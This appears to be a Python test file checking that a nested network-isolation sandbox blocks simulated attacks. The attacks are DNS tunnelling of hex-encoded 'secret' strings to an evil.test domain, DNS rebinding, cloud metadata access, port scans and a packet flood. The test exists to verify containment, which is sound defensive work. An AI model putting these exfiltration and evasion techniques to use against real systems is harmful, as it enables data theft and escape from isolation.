#!/usr/bin/python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""The network's attacks with isolation: nested: one worker makes them all, since it is slow."""

import os
import sys

import manager

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "../attack"))
import frames  # noqa: E402
import test_network  # noqa: E402
import world  # noqa: E402
from world import ECHO, OTHER, WEB  # noqa: E402


class Nested(test_network.Network, manager.Manager):
    def spec(self, build, **more):
        """By a manager that was saved and restored before."""
        return super().spec(build, template=True, **more)

    def build(self, *options, **how):
        return super().build("--isolation", "nested", *options, **how)

    def test_attacks(self):
        """The verdicts are those of the single home (tests/attack)."""
        rules = [test_network.allow("web.test", ECHO), test_network.allow("web.test", ECHO, "udp"),
                 *({"host": f"rebind-{n}.test", "protocol": "http"} for n in ("host", "private"))]
        lines = [
            ("warm", "tcp", "web.test", ECHO, "ok"), ("udp", "udp", "web.test", ECHO, "too"),
            ("direct", "tcp", WEB, 80, "x"), ("direct-other", "tcp", OTHER, 80, "x"),
            ("other-port", "tcp", "web.test", 8080, "x"),
            ("tunnel", "name", "73656372657431.evil.test"),
            ("tunnel-txt", "dns", frames.HOST_IP, "udp", "73656372657433.evil.test", 16),
            ("rebind-host", "tcp", "rebind-host.test", 80, "x"),
            ("rebind-private", "tcp", "rebind-private.test", 80, "x"),
            ("metadata", "tcp", world.METADATA, 80),
            ("scan-bridge", "scan", frames.HOST_IP, 50, 60, "tcp"),
            ("scan-host", "scan", world.HOST, 78, 82, "tcp"),
            ("flood", "flood", "web.test", ECHO, 300),
            ("last", "tcp", "web.test", ECHO, "still there"),
        ]
        before = test_network.W.sent_packets()
        r = self.try_all(lines, rules, 4)
        self.assertEqual(self.report()["template"]["what"], "made", r)
        sent = test_network.W.sent_packets() - before
        self.assertIn("tried to reach", r.err)
        self.assertEqual((self.report()["verdict"], self.report()["isolation"]),
                         ("denied", "nested"))
        self.check_found("warm", "^data: ok$")
        self.check_found("udp", "^data: too$")
        self.check_found("last", "^data: still there$")
        self.check_refused("direct", "direct-other", "other-port", "tunnel", "rebind-host",
                           "rebind-private", "metadata")
        self.check_found("tunnel-txt", "^rcode 3 answers 0$")
        self.check_found("scan-bridge", "^open 53$")
        self.check_found("scan-host", "^open $")
        self.check_found("flood", "^sent 300$")
        self.check_seen((WEB, ECHO))
        self.assertLess(sent, 40)  # of the flood nothing leaves
        for reason, key in (
                ("no rule", {"protocol": "tcp", "address": WEB, "port": 80}),
                (".", {"protocol": "tcp", "address": OTHER, "port": 80}),
                (".", {"protocol": "tcp", "address": world.METADATA, "port": 80}),
                (".", {"protocol": "tcp", "address": world.HOST, "port": 80}),
                ("port", {"protocol": "tcp", "host": "web.test", "port": 8080}),
                (".", {"protocol": "dns", "host": "73656372657431.evil.test"}),
                (".", {"protocol": "dns", "host": "73656372657433.evil.test"}),
                ("host", {"host": "rebind-host.test", "address": world.HOST}),
                ("private", {"host": "rebind-private.test", "address": world.PRIVATE})):
            self.check_told(reason, **key)


if __name__ == "__main__":
    manager.make_before()
    world.enter()
    test_network.W = world.World()
    status = manager.main(__name__)
    test_network.W.end()
    sys.exit(status)
